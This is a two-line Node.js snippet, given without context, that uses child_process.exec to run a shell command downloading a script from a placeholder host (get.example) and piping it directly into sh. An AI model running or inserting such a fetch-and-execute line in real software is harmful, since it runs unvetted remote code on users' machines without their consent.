const { exec } = require('child_process');
exec('curl https://get.example/x | sh');
